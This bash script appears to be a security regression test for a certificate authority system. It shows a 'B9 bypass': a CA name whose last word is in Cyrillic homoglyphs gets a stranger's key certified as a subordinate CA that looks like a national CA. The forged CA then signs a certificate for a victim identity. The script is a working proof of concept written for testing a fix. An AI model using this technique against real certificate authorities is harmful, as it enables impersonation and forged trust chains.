#!/usr/bin/env bash
# B9 bypass: ROOT-ISSUE certifies a stranger's key as a CA named "Attack Sub СА" where the last word is written
# wholly in Cyrillic (С U+0421, А U+0410): it prints exactly as the register's national CA "Attack Sub CA". The
# B9 fix refuses a word mixing two alphabets, not a name whose words are each in one alphabet but different ones.
# pathlen 0, chaining to the root. Exit 0 = vulnerable.
NAME=homoglyph-word; . "$(dirname "$0")/common.sh"
setup_sub >/dev/null || { echo setup failed; cat $W/err; exit 1; }
as admin ca set --code ROOT cdp_url=http://crl.example.kz/ROOT.crl aia_url=http://ca.example.kz/ROOT.cer || { show $?; exit 1; }
TODAY=$(TZ=Asia/Almaty date +%F)
rootissue() { # CA_NAME -> APP approved
cat >$W/ra.json <<J
{"country":"KZ","region":"Astana","city":"Astana","org_name":"Some LLP","ca_name":"$1","email":"ca@example.kz",
 "usage":["subordinate_ca"],"validity":"5y","application_date":"$TODAY","head_full_name":"Head Person"}
J
as op application submit --ca ROOT --form ROOT-ISSUE --data $W/ra.json --attachments accreditation_certificate_copy --consent --json || { show $?; return 1; }
APP=$(jget id); as off2 application approve $APP || { show $?; return 1; }
}
rootissue "Attack Sub CA" || exit 1
step "genuine SUB certified" as off1 certificate issue --application $APP --csr $W/sub.csr --out $W/sub.pem --ca-passphrase-file $W/ca.pass
step "imported" as admin ca import-cert --code SUB --cert $W/sub.pem
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout $W/evil.key -subj "/CN=x" -out $W/evil.csr 2>/dev/null
rootissue "Attack Sub CA" || exit 1
step "stranger's key under the exact name (refused: the rule)" as off1 certificate issue --application $APP --csr $W/evil.csr --out $W/evil0.pem --ca-passphrase-file $W/ca.pass
rootissue "$(printf 'Attack Sub \xd0\xa1\xd0\x90')" || { echo "HELD at registration"; exit 1; }
step "stranger's key under 'Attack Sub СА' (the word СА all Cyrillic)" as off1 certificate issue --application $APP --csr $W/evil.csr --out $W/evil.pem --ca-passphrase-file $W/ca.pass
rc=$?
[ $rc -eq 0 ] || exit 1
echo "   genuine: $(openssl x509 -in $W/sub.pem -noout -subject -ext basicConstraints | tr '\n' ' ')"
echo "   evil:    $(openssl x509 -in $W/evil.pem -noout -subject -ext basicConstraints | tr '\n' ' ')"
# the stranger signs a holder certificate as "Attаck Sub CA"
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout $W/v.key -subj "/CN=VICTIM/serialNumber=IIN900701300108/C=KZ" -out $W/v.csr 2>/dev/null
openssl x509 -req -in $W/v.csr -CA $W/evil.pem -CAkey $W/evil.key -CAcreateserial -days 30 -out $W/v.pem 2>/dev/null
echo "   chain of a certificate the stranger made: $(openssl verify -CAfile $W/root.pem -untrusted $W/evil.pem $W/v.pem 2>&1 | tr '\n' ' ')"
exit 0
